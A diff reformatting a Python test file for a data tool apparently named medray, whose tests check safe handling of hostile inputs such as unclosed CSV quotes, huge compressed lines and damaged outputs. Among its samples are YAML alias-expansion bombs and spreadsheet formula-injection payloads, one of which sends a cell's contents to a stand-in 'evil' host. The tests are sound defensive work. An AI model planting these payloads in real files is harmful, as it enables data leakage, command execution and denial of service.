@@ -1,4 +1,5 @@
-"""What hostile or broken files and settings may cost: bounded memory and time, a sentence with a place, and no row lost uncounted."""
+"""What hostile or broken files and settings may cost: bounded memory and time, a sentence with a
+place, and no row lost uncounted."""
 
 import contextlib
 import csv
@@ -75,30 +76,50 @@ def lost(path: Path, closing: str, num_rows: int = 5000) -> Path:
         ('z,a disk of 5"\n', "holds 5000 lines that are rows themselves"),
     ],
 )
-def test_the_rows_that_an_open_quote_takes_in_are_counted(tmp_path: Path, closing: str, reason: str) -> None:
+def test_the_rows_that_an_open_quote_takes_in_are_counted(
+    tmp_path: Path, closing: str, reason: str
+) -> None:
     path = lost(tmp_path / "lost.csv", closing)
     found = read(path)
     assert len(found) >= 10_000
     assert [row.text for row in found[:5000]] == [f"good row {number}" for number in range(5000)]
     assert len(bad(found)) == 5001 + bool(closing)
-    assert {row.reason for row in bad(found)} == {f"the quoted field that opens in line 5002 {reason}"}
+    assert {row.reason for row in bad(found)} == {
+        f"the quoted field that opens in line 5002 {reason}"
+    }
     assert [row.where for row in bad(found)][:2] == ["lost.csv:5002", "lost.csv:5003"]
-    assert len(pieces.scan(sources.find(str(path)).shards[0], COLUMNS, 1000).ids) == len(found)  # what --max-bad is a share of
+    assert len(pieces.scan(sources.find(str(path)).shards[0], COLUMNS, 1000).ids) == len(
+        found
+    )  # what --max-bad is a share of
 
 
 @pytest.mark.parametrize("closing", ["", 'z,"x"\n', 'z,a disk of 5"\n'])
-def test_study_data_with_an_open_quote_is_refused_with_its_line(tmp_path: Path, closing: str) -> None:
+def test_study_data_with_an_open_quote_is_refused_with_its_line(
+    tmp_path: Path, closing: str
+) -> None:
     path = lost(tmp_path / "lost.csv", closing, 300)
-    options = delimited.Options(name="delimited", path=str(path), text=("text",), label=None, id="id")
-    with pytest.raises(DataError, match=r"lost\.csv:302: the quoted field that opens in line 302 ") as caught:
+    options = delimited.Options(
+        name="delimited", path=str(path), text=("text",), label=None, id="id"
+    )
+    with pytest.raises(
+        DataError, match=r"lost\.csv:302: the quoted field that opens in line 302 "
+    ) as caught:
         list(delimited.read(options))
     assert "good row" not in str(caught.value)
     (tmp_path / "fixed.csv").write_text('id,label\na1,x\na2,"opened\n' + "a3,x\n" * 200 + closing)
     with pytest.raises(DataError, match=r"fixed\.csv:3: the quoted field that opens in line 3 "):
         corrections.apply([Example("a1", "a", ("x",))], tmp_path / "fixed.csv", ())
-    (tmp_path / "table.csv").write_text('Disease,Symptom_1\nflu,fever\ncold,"cough\n' + "flu,fever\n" * 50)
-    with pytest.raises(DataError, match=r"table\.csv:3: the quoted field that opens in line 3 does not close"):
-        list(symptom_table.read(symptom_table.Options(name="symptom_table", path=str(tmp_path / "table.csv"))))
+    (tmp_path / "table.csv").write_text(
+        'Disease,Symptom_1\nflu,fever\ncold,"cough\n' + "flu,fever\n" * 50
+    )
+    with pytest.raises(
+        DataError, match=r"table\.csv:3: the quoted field that opens in line 3 does not close"
+    ):
+        list(
+            symptom_table.read(
+                symptom_table.Options(name="symptom_table", path=str(tmp_path / "table.csv"))
+            )
+        )
 
 
 def test_an_open_quote_takes_in_no_more_lines_than_a_row_may_have(tmp_path: Path) -> None:
@@ -109,22 +130,39 @@ def test_an_open_quote_takes_in_no_more_lines_than_a_row_may_have(tmp_path: Path
 
 
 def test_long_texts_in_quotes_are_read_as_before(tmp_path: Path) -> None:
-    note = "\n".join(f"Day {day}: no fever, no pain, wound dry.\n" for day in range(1500))  # 3,000 lines, 60 kB
-    labs = "\n".join(["Results", *(f"value {number}, 4.{number} mmol/l" for number in range(40))])  # rows of two values, nearly
+    note = "\n".join(
+        f"Day {day}: no fever, no pain, wound dry.\n" for day in range(1500)
+    )  # 3,000 lines, 60 kB
+    labs = "\n".join(
+        ["Results", *(f"value {number}, 4.{number} mmol/l" for number in range(40))]
+    )  # rows of two values, nearly
     said = 'He said: "no pain", and left.'
     texts = [note, labs, said, "long " * 100_000]
     with (tmp_path / "rows.csv").open("w", newline="") as file:
-        csv.writer(file).writerows([["id", "text"], *([f"r{number}", text] for number, text in enumerate(texts))])
-    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [(text.strip(), "") for text in texts]
-    options = delimited.Options(name="delimited", path=str(tmp_path / "rows.csv"), text=("text",), label=None, id="id")
+        csv.writer(file).writerows(
+            [["id", "text"], *([f"r{number}", text] for number, text in enumerate(texts))]
+        )
+    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [
+        (text.strip(), "") for text in texts
+    ]
+    options = delimited.Options(
+        name="delimited", path=str(tmp_path / "rows.csv"), text=("text",), label=None, id="id"
+    )
     assert [example.text for example in delimited.read(options)] == [text.strip() for text in texts]
 
 
 def test_a_list_in_a_text_is_no_table(tmp_path: Path) -> None:
-    labs = "\n".join(["Results", *(f"value {number}, 4.{number}, mmol/l" for number in range(40)), "end"])
+    labs = "\n".join(
+        ["Results", *(f"value {number}, 4.{number}, mmol/l" for number in range(40)), "end"]
+    )
     with (tmp_path / "rows.csv").open("w", newline="") as file:
-        csv.writer(file).writerows([["id", "text", "label"], ["r1", labs, "a"], ["r2", "fever", "b"]])
-    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [(labs, ""), ("fever", "")]
+        csv.writer(file).writerows(
+            [["id", "text", "label"], ["r1", labs, "a"], ["r2", "fever", "b"]]
+        )
+    assert [(row.text, row.fault) for row in read(tmp_path / "rows.csv")] == [
+        (labs, ""),
+        ("fever", ""),
+    ]
 
 
 @pytest.mark.real
@@ -137,13 +175,20 @@ def test_real_files_lose_no_row(real_data: Path) -> None:
 
 
 def test_a_packed_line_of_a_quarter_of_a_gigabyte_is_not_held_in_memory(tmp_path: Path) -> None:
-    for name, begin in (("a.jsonl.gz", b'{"id":"1","text":"'), ("b.csv.gz", b'id,text\n1,"'), ("c.txt.gz", b"")):
+    for name, begin in (
+        ("a.jsonl.gz", b'{"id":"1","text":"'),
+        ("b.csv.gz", b'id,text\n1,"'),
+        ("c.txt.gz", b""),
+    ):
         with gzip.open(tmp_path / name, "wb", 1) as file:
             file.write(begin)
             for _ in range(250):
                 file.write(b"a" * 1_000_000)
             file.write(b'"}\n{"id":"2","text":"fever"}\n' if b"{" in begin else b'"\n2,fever\n')
-    table = {"id": [1] * 500, "text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), ["a" * 1_100_000])}
+    table = {
+        "id": [1] * 500,
+        "text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), ["a" * 1_100_000]),
+    }
     pq.write_table(pa.table(table), tmp_path / "d.parquet", compression="zstd")
     script = """
 import sys
@@ -155,19 +200,38 @@ for path in sys.argv[1:]:
     sources.head(source)
     for row in list(rows.read(source.shards[0], columns, 1_000_000))[:2]:
         print(row.fault or row.text)
-    print(int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0]) >> 10)  # rusage has that of pytest
+    # rusage has that of pytest
+    print(int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0]) >> 10)
 """
     paths = [str(path) for path in sorted(tmp_path.iterdir())]
-    done = subprocess.run([sys.executable, "-c", script, *paths], capture_output=True, text=True, timeout=120, check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", script, *paths],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    )
     said = done.stdout.splitlines()
     too_long = rows.TOO_LONG
-    assert [said[0], said[1], said[3], said[4], said[6], said[8]] == [too_long, "fever", rows.UNREADABLE, "fever", too_long, too_long]
-    assert int(said[-1]) < 500, said  # MiB, libraries included; 1,600 where each whole line becomes a text
+    assert [said[0], said[1], said[3], said[4], said[6], said[8]] == [
+        too_long,
+        "fever",
+        rows.UNREADABLE,
+        "fever",
+        too_long,
+        too_long,
+    ]
+    assert int(said[-1]) < 500, (
+        said
+    )  # MiB, libraries included; 1,600 where each whole line becomes a text
 
 
 def test_a_packed_file_that_is_damaged_is_a_sentence(tmp_path: Path) -> None:
     whole = gzip.compress(
-        "".join(json.dumps({"id": str(n), "text": f"text {random.Random(n).random()}"}) + "\n" for n in range(9999)).encode()
+        "".join(
+            json.dumps({"id": str(n), "text": f"text {random.Random(n).random()}"}) + "\n"
+            for n in range(9999)
+        ).encode()
     )
     (tmp_path / "half.jsonl.gz").write_bytes(whole[: len(whole) // 2])
     with pytest.raises(DataError, match=r"half\.jsonl\.gz: cannot be read to its end: "):
@@ -175,14 +239,20 @@ def test_a_packed_file_that_is_damaged_is_a_sentence(tmp_path: Path) -> None:
 
 
 def test_a_line_without_end_is_refused_in_study_data() -> None:
-    with pytest.raises(DataError, match=r"/dev/zero:1: the line is longer than 16777216 characters"):
+    with pytest.raises(
+        DataError, match=r"/dev/zero:1: the line is longer than 16777216 characters"
+    ):
         list(jsonl.read(jsonl.Options(name="jsonl", path="/dev/zero")))
 
 
 @pytest.mark.parametrize("ending", ["parquet", "arrow"])
-def test_a_text_that_a_table_keeps_once_is_not_in_memory_for_every_row(tmp_path: Path, ending: str) -> None:
+def test_a_text_that_a_table_keeps_once_is_not_in_memory_for_every_row(
+    tmp_path: Path, ending: str
+) -> None:
     path, text = tmp_path / f"rows.{ending}", "a" * 3_000_000
-    table = pa.table({"text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), [text])})
+    table = pa.table(
+        {"text": pa.DictionaryArray.from_arrays(pa.array([0] * 500, pa.int32()), [text])}
+    )
     if ending == "parquet":
         pq.write_table(table, path, compression="zstd")
     else:
@@ -215,7 +285,9 @@ def message(run: Callable[[], Any]) -> str:
         "<ID:7>\nTitle: x\nJane Canary: a\n",
     ],
 )
-def test_reasons_of_texts_set_aside_name_the_place_and_the_kind_only(tmp_path: Path, content: str) -> None:
+def test_reasons_of_texts_set_aside_name_the_place_and_the_kind_only(
+    tmp_path: Path, content: str
+) -> None:
     (tmp_path / "note.txt").write_text(content)
     (row,) = read(tmp_path, Columns())
     assert row.fault == rows.UNREADABLE
@@ -245,10 +317,21 @@ def test_reasons_of_rows_set_aside_hold_no_text(tmp_path: Path, name: str, conte
 def test_errors_of_study_data_hold_no_text(tmp_path: Path) -> None:
     path = tmp_path / "rows"
     said = []
-    for content in (f"1|t|a\n1|a|b\n{NAMED}\t0\t1\ta\tD\n", f"{NAMED}\n", f"1|t|a\n{NAMED}|a|b\n", f"1|t|a\n1|a|b\n1\t{NAMED}\t1\ta\tD\n"):
+    for content in (
+        f"1|t|a\n1|a|b\n{NAMED}\t0\t1\ta\tD\n",
+        f"{NAMED}\n",
+        f"1|t|a\n{NAMED}|a|b\n",
+        f"1|t|a\n1|a|b\n1\t{NAMED}\t1\ta\tD\n",
+    ):
         path.write_text(content)
-        said.append(message(lambda: list(pubtator.read(pubtator.Options(name="pubtator", path=str(path))))))
-    for mention in ({"start": 0, "end": 4, "text": NAMED}, {"start": NAMED, "end": 4}, {"start": 4, "end": 12}):
+        said.append(
+            message(lambda: list(pubtator.read(pubtator.Options(name="pubtator", path=str(path)))))
+        )
+    for mention in (
+        {"start": 0, "end": 4, "text": NAMED},
+        {"start": NAMED, "end": 4},
+        {"start": 4, "end": 12},
+    ):
         path.write_text(json.dumps({"text": NAMED, "mentions": [mention]}) + "\n")
         said.append(message(lambda: list(spans.read(spans.Options(name="spans", path=str(path))))))
     path.write_text(json.dumps({"text": "a", "label": {"name": NAMED}}) + "\n")
@@ -259,34 +342,63 @@ def test_errors_of_study_data_hold_no_text(tmp_path: Path) -> None:
 BREAKS = "r\u2028\x85\x0b\x1c1"  # where Python ends a line of a text, and JSON does not
 
 
-def test_an_id_with_a_line_separator_of_unicode_does_not_cut_what_medray_stores(tmp_path: Path) -> None:
+def test_an_id_with_a_line_separator_of_unicode_does_not_cut_what_medray_stores(
+    tmp_path: Path,
+) -> None:
     output = Output(open_store(str(tmp_path / "out")), "jsonl")
-    output.write(0, 0, pa.table({"id": []}), [Row(BREAKS, "", "rows.jsonl:1", fault=rows.EMPTY, reason="the text is empty")], 0)
+    output.write(
+        0,
+        0,
+        pa.table({"id": []}),
+        [Row(BREAKS, "", "rows.jsonl:1", fault=rows.EMPTY, reason="the text is empty")],
+        0,
+    )
     assert [line["id"] for line in output.set_aside()] == [BREAKS]
-    line = json.dumps({"row_id": BREAKS, "labels": ["a"], "probabilities": [1.0]}, ensure_ascii=False)
+    line = json.dumps(
+        {"row_id": BREAKS, "labels": ["a"], "probabilities": [1.0]}, ensure_ascii=False
+    )
     (tmp_path / "predictions.jsonl").write_text(f"{line}\n", encoding="utf-8")
     assert [prediction.row_id for prediction in read_predictions(tmp_path)] == [BREAKS]
 
 
 @pytest.mark.parametrize(
     ("name", "content"),
-    [("_run.json", b"{"), ("_run.json", b"[]"), ("_run.json", b"\xff"), ("_summary.json", b"["), ("_done/copy", b""), ("_done/0-0.1", b"")],
+    [
+        ("_run.json", b"{"),
+        ("_run.json", b"[]"),
+        ("_run.json", b"\xff"),
+        ("_summary.json", b"["),
+        ("_done/copy", b""),
+        ("_done/0-0.1", b""),
+    ],
 )
-def test_a_file_of_an_output_that_was_damaged_is_one_sentence(tmp_path: Path, name: str, content: bytes) -> None:
+def test_a_file_of_an_output_that_was_damaged_is_one_sentence(
+    tmp_path: Path, name: str, content: bytes
+) -> None:
     path = tmp_path / "out" / name
     path.parent.mkdir(parents=True)
     path.write_bytes(content)
     output = Output(open_store(str(tmp_path / "out")), "jsonl")
     record = output_files.Record.model_construct(piece_rows=1)
-    readers: dict[str, Callable[[], object]] = {"_run.json": lambda: output.begin(record, resume=True), "_summary.json": output.summary}
-    with pytest.raises(ArtifactError, match=r": is not as this medray writes it; put it back, or choose another --output$"):
+    readers: dict[str, Callable[[], object]] = {
+        "_run.json": lambda: output.begin(record, resume=True),
+        "_summary.json": output.summary,
+    }
+    with pytest.raises(
+        ArtifactError,
+        match=r": is not as this medray writes it; put it back, or choose another --output$",
+    ):
         readers.get(name, output.notes)()
 
 
-def test_a_line_about_rows_that_were_set_aside_that_was_damaged_is_one_sentence(tmp_path: Path) -> None:
+def test_a_line_about_rows_that_were_set_aside_that_was_damaged_is_one_sentence(
+    tmp_path: Path,
+) -> None:
     (tmp_path / "_set_aside").mkdir()
     (tmp_path / "_set_aside" / "part-00000-000000.jsonl").write_text('{"id": "Canary')
-    with pytest.raises(ArtifactError, match=r"part-00000-000000\.jsonl: is not as this medray writes it") as refusal:
+    with pytest.raises(
+        ArtifactError, match=r"part-00000-000000\.jsonl: is not as this medray writes it"
+    ) as refusal:
         list(Output(open_store(str(tmp_path)), "jsonl").set_aside())
     assert "Canary" not in str(refusal.value)
 
@@ -300,7 +412,19 @@ def test_a_number_that_is_none_is_an_error_of_its_line(tmp_path: Path, number: s
 
 # Cells that a spreadsheet would run
 
-FORMULAS = ['=HYPERLINK("http://evil","x")', "+1-1", "-2+3", "@SUM(1)", "\t=1", " =1", "＝1", "=cmd|' /C calc'!A1", "- item", "'=1", "''@x"]
+FORMULAS = [
+    '=HYPERLINK("http://evil","x")',
+    "+1-1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    " =1",
+    "＝1",
+    "=cmd|' /C calc'!A1",
+    "- item",
+    "'=1",
+    "''@x",
+]
 HARMLESS = ["-0.5", "+3", "-1e-05", "carcinoma", "'tis", "", "a=b", "5-HT", "'-0.5"]
 
 
@@ -318,45 +442,81 @@ def is_run(cell: str) -> bool:
 
 
 def test_no_cell_of_a_table_for_people_is_a_formula() -> None:
-    table = pa.table({"id": FORMULAS, "label": FORMULAS, "labels": [[text] for text in FORMULAS], "confidence": [-0.5] * len(FORMULAS)})
+    table = pa.table(
+        {
+            "id": FORMULAS,
+            "label": FORMULAS,
+            "labels": [[text] for text in FORMULAS],
+            "confidence": [-0.5] * len(FORMULAS),
+        }
+    )
     written = cells(encode(table, "csv").decode())
     assert not any(is_run(cell) for row in written for cell in row)
     assert {row[3] for row in written[1:]} == {"-0.5"}  # a number stays one
     assert [csv_text.restore_cell(row[0]) for row in written[1:]] == FORMULAS
-    board = cells(tables.to_csv([{"name": text, f"settings.{text}": text, text: -1.5, "error": None} for text in FORMULAS]))
+    board = cells(
+        tables.to_csv(
+            [
+                {"name": text, f"settings.{text}": text, text: -1.5, "error": None}
+                for text in FORMULAS
+            ]
+        )
+    )
     assert not any(is_run(cell) for row in board for cell in row)
     assert {cell for row in board[1:] for cell in row if cell.endswith("1.5")} == {"-1.5"}
 
 
 def test_every_text_comes_back_as_it_was() -> None:
     rng = random.Random(3)
-    texts = FORMULAS + HARMLESS + ["".join(rng.choices("'=+-@ \t1.5ea＝\n", k=rng.randint(0, 6))) for _ in range(5000)]
-    written = [cells(csv_text.write_table(["a", "b"], [{"a": text, "b": 1}]))[1][0] for text in texts]
+    texts = (
+        FORMULAS
+        + HARMLESS
+        + ["".join(rng.choices("'=+-@ \t1.5ea＝\n", k=rng.randint(0, 6))) for _ in range(5000)]
+    )
+    written = [
+        cells(csv_text.write_table(["a", "b"], [{"a": text, "b": 1}]))[1][0] for text in texts
+    ]
     assert [csv_text.restore_cell(cell) for cell in written] == texts
     assert written[len(FORMULAS) : len(FORMULAS) + len(HARMLESS)] == HARMLESS
     assert not any(is_run(cell) for cell in written)
 
 
-def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_its_own_id(tmp_path: Path) -> None:
+def test_a_row_that_looks_like_a_formula_is_exported_harmless_and_corrected_by_its_own_id(
+    tmp_path: Path,
+) -> None:
     path = tmp_path / "review.csv"
     ids, label = ["=cmd()", "-2+3", "'=x", "r1"], "=HYPERLINK(1)"
-    review.export([review.Row(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)') for row_id in ids], path)
+    review.export(
+        [
+            review.Row(id=row_id, given=(label, "b"), text='=HYPERLINK("http://evil?x="&A1)')
+            for row_id in ids
+        ],
+        path,
+    )
     exported = cells(path.read_text())
     assert not any(is_run(cell) for row in exported for cell in row)
     for delimiter in ",;":
-        with path.open("w", newline="", encoding="utf-8-sig") as file:  # as a spreadsheet saves what somebody filled in
-            csv.writer(file, delimiter=delimiter).writerows([exported[0], *([row[0], row[2], *row[2:]] for row in exported[1:])])
-        corrected = corrections.apply([Example(row_id, "a", ("b",)) for row_id in ids], path, (label,))
+        with path.open(
+            "w", newline="", encoding="utf-8-sig"
+        ) as file:  # as a spreadsheet saves what somebody filled in
+            csv.writer(file, delimiter=delimiter).writerows(
+                [exported[0], *([row[0], row[2], *row[2:]] for row in exported[1:])]
+            )
+        corrected = corrections.apply(
+            [Example(row_id, "a", ("b",)) for row_id in ids], path, (label,)
+        )
         assert [example.labels for example in corrected.examples] == [(label, "b")] * 4
 
 
 # Settings
 
 LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
-    f"{chr(98 + number)}: &{chr(98 + number)} [{','.join(['*' + chr(97 + number)] * 10)}]\n" for number in range(8)
+    f"{chr(98 + number)}: &{chr(98 + number)} [{','.join(['*' + chr(97 + number)] * 10)}]\n"
+    for number in range(8)
 )
 MERGES = "a: &a {k: 1}\n" + "".join(
-    f"{chr(98 + number)}: &{chr(98 + number)} {{<<: [{','.join(['*' + chr(97 + number)] * 10)}]}}\n" for number in range(8)
+    f"{chr(98 + number)}: &{chr(98 + number)} {{<<: [{','.join(['*' + chr(97 + number)] * 10)}]}}\n"
+    for number in range(8)
 )
 
 
@@ -378,7 +538,9 @@ MERGES = "a: &a {k: 1}\n" + "".join(
         ("seed: !!int ''", "is not valid YAML"),
     ],
 )
-def test_settings_that_would_grow_or_break_the_reader_are_a_sentence(tmp_path: Path, content: str, message: str) -> None:
+def test_settings_that_would_grow_or_break_the_reader_are_a_sentence(
+    tmp_path: Path, content: str, message: str
+) -> None:
     path = tmp_path / "study.yaml"
     path.write_text(content)
     with pytest.raises(ConfigError, match=message) as caught:
@@ -403,7 +565,12 @@ def test_of_many_unknown_keys_some_are_named_and_the_others_counted(tmp_path: Pa
 @pytest.mark.parametrize("at", ["²", "9" * 5000, "99", "-1"])
 def test_a_position_that_a_list_has_not_is_a_sentence(at: str) -> None:
     with pytest.raises(ConfigError, match="is not a position in a list of 1") as caught:
-        files.put({"base_models": [{"source": "a"}]}, f"base_models.{at}.source", "x", where=f"base_models.{at}.source=x")
+        files.put(
+            {"base_models": [{"source": "a"}]},
+            f"base_models.{at}.source",
+            "x",
+            where=f"base_models.{at}.source=x",
+        )
     assert len(str(caught.value)) < 500
 
 
@@ -422,22 +589,46 @@ def test_a_hub_that_never_answers_is_waited_for_once(tmp_path: Path) -> None:
 
         threading.Thread(target=accept, daemon=True).start()
         script = "from medray.models import hub\nprint(hub.is_reached())"
-        env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "HF_HOME": str(tmp_path), "HF_HUB_ETAG_TIMEOUT": "2"}
+        env = {
+            "PATH": "/usr/bin:/bin",
+            "HOME": str(tmp_path),
+            "HF_HOME": str(tmp_path),
+            "HF_HUB_ETAG_TIMEOUT": "2",
+        }
         env["HF_ENDPOINT"] = f"http://127.0.0.1:{silent.getsockname()[1]}"
-        done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=100, check=True)
+        done = subprocess.run(
+            [sys.executable, "-c", script],
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=100,
+            check=True,
+        )
         assert done.stdout.strip() == "False"
         heads = [each for each in asked if each.recv(4) == b"HEAD"]
         assert len(heads) == 1
 
 
 def test_a_study_whose_run_could_not_be_read_again_is_not_begun(tmp_path: Path) -> None:
-    parts = {"base": {"name": "big", "base_models": [{"source": "a"}], "task": {"name": "classification"}, "train": {"epochs": 1}}}
-    parts["labels"] = {"data": {"format": {"name": "jsonl", "path": "a", "labels": ["a" * 200_000]}}}
+    parts = {
+        "base": {
+            "name": "big",
+            "base_models": [{"source": "a"}],
+            "task": {"name": "classification"},
+            "train": {"epochs": 1},
+        }
+    }
+    parts["labels"] = {
+        "data": {"format": {"name": "jsonl", "path": "a", "labels": ["a" * 200_000]}}
+    }
     parts["text"] = {"storage_path": str(tmp_path), "data": {"format": {"id": "a" * 200_000}}}
     for name, part in parts.items():
         (tmp_path / f"{name}.yaml").write_text(json.dumps(part))
     study = load_study([tmp_path / f"{name}.yaml" for name in parts])
-    with pytest.raises(ConfigError, match=r"^study big, with all its files and settings, is longer than 262144 bytes"):
+    with pytest.raises(
+        ConfigError,
+        match=r"^study big, with all its files and settings, is longer than 262144 bytes",
+    ):
         Run.start(study)
     assert not (tmp_path / "big").exists()
 
@@ -446,10 +637,19 @@ def test_a_study_whose_run_could_not_be_read_again_is_not_begun(tmp_path: Path) 
 
 
 @pytest.mark.parametrize("name", ["afile", "afile.csv", "afile/below"])
-def test_an_output_that_is_a_file_is_refused_and_left_alone(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_output_that_is_a_file_is_refused_and_left_alone(
+    tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     (tmp_path / name.partition("/")[0]).write_text("precious")
     (tmp_path / "in.csv").write_text("id,text\n1,fever\n")
-    arguments = ["predict", "cancer@best", "--input", str(tmp_path / "in.csv"), "--storage-path", str(tmp_path / "runs")]
+    arguments = [
+        "predict",
+        "cancer@best",
+        "--input",
+        str(tmp_path / "in.csv"),
+        "--storage-path",
+        str(tmp_path / "runs"),
+    ]
     assert cli.main([*arguments, "--output", str(tmp_path / name)]) == 1
     said = capsys.readouterr().err
     assert "is not a folder that can be written to" in said
@@ -458,7 +658,9 @@ def test_an_output_that_is_a_file_is_refused_and_left_alone(tmp_path: Path, name
 
 
 @pytest.mark.parametrize("command", ["init", "review", "report"])
-def test_a_path_that_cannot_be_is_one_sentence(command: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_path_that_cannot_be_is_one_sentence(
+    command: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert cli.main([command, "a" * 5000]) == 1
     said = capsys.readouterr().err
     assert said == f"medray: {'a' * 200}: cannot be used: File name too long\n"
@@ -469,7 +671,12 @@ def test_a_path_that_cannot_be_is_one_sentence(command: str, capsys: pytest.Capt
 
 def parsed(content: str) -> None:
     with contextlib.suppress(DataError):
-        raw_abstracts.parse(io.StringIO(content), "a.txt", "a", raw_abstracts.Options(name="raw_abstracts", path="a"))
+        raw_abstracts.parse(
+            io.StringIO(content),
+            "a.txt",
+            "a",
+            raw_abstracts.Options(name="raw_abstracts", path="a"),
+        )
 
 
 def table(content: str) -> None:
@@ -514,7 +721,10 @@ SCANNERS: dict[str, tuple[Callable[[str, Path], Any], Callable[[int], str]]] = {
     "escaped quotes": (alone(table), lambda n: 'a,b\nc,"' + '""' * (n // 2) + "x"),
     "fields, then an open quote": (alone(table), lambda n: '"a",' * (n // 4) + '"'),
     "columns": (header, lambda n: "a," * (n // 2)),
-    "rows of different names": (different, lambda n: "".join(f'{{"k{number}": 1}}\n' for number in range(2000 + n // 14))),
+    "rows of different names": (
+        different,
+        lambda n: "".join(f'{{"k{number}": 1}}\n' for number in range(2000 + n // 14)),
+    ),
     "apostrophes of a cell": (alone(csv_text.restore_cell), lambda n: "'" * n),
     "number in a cell": (alone(csv_text.restore_cell), lambda n: "'-" + "1" * n + "x"),
     "blanks in a cell": (alone(csv_text.restore_cell), lambda n: "'-1" + " " * n + "x"),
@@ -529,12 +739,18 @@ SCANNERS: dict[str, tuple[Callable[[str, Path], Any], Callable[[int], str]]] = {
     "list of words": (alone(json_list.read), lambda n: "[" + "a b " * (n // 4)),
     "list of objects": (alone(json_list.read), lambda n: "[{" + '"a" ' * (n // 4) + "}"),
     "brackets": (alone(json_list.read), lambda n: "[" * n),
-    "mention in its text": (alone(lambda text: json_list.ground(text, [json_list.Item("a a-b")], ["x"])), lambda n: "a -" * (n // 3)),
+    "mention in its text": (
+        alone(lambda text: json_list.ground(text, [json_list.Item("a a-b")], ["x"])),
+        lambda n: "a -" * (n // 3),
+    ),
     "refusal": (alone(is_refusal), lambda n: "i cannot safely " * (n // 16)),
     "apologies": (alone(is_refusal), lambda n: "sorry. " * (n // 7)),
     "quoted refusal": (alone(is_refusal), lambda n: '"' + "a" * n),
     "words": (alone(overlap.words), lambda n: "a'" * (n // 2)),
-    "label in an answer": (alone(lambda text: choice.extract(text, ["lung cancer"])), lambda n: "lung " * (n // 5)),
+    "label in an answer": (
+        alone(lambda text: choice.extract(text, ["lung cancer"])),
+        lambda n: "lung " * (n // 5),
+    ),
 }
 
 
@@ -549,7 +765,9 @@ def test_time_grows_no_faster_than_what_is_read(name: str, tmp_path: Path) -> No
             # Four times as long takes four times as much; sixteen times would be quadratic.
             again = range(2 if seconds[-1] < 2 else 0)  # a neighbour may have taken the caches
             least = min([seconds[-1], *(cpu_seconds(run, content, tmp_path) for _ in again)])
-            assert least < 9 * seconds[-3], f"{size} characters: {least:.3f} s, a quarter of them {seconds[-3]:.3f} s"
+            assert least < 9 * seconds[-3], (
+                f"{size} characters: {least:.3f} s, a quarter of them {seconds[-3]:.3f} s"
+            )
 
 
 def cpu_seconds(run: Callable[[str, Path], Any], content: str, folder: Path) -> float:
